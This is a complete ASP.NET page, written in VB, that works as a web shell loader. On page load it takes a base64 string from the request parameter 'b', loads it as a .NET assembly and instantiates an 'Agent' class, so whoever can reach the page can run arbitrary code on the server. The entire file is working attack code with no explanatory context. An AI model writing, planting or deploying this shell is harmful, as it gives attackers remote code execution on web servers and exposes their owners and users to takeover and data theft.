<%@ Page Language="VB" Debug="false" %>
<script runat="server">
    Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
        Dim b As String = Request.Item("b")
        If b Is Nothing Then Exit Sub
        Dim asm As System.Reflection.Assembly = System.Reflection.Assembly.Load(System.Convert.FromBase64String(b))
        asm.CreateInstance("Agent").Equals(Me)
    End Sub
</script>
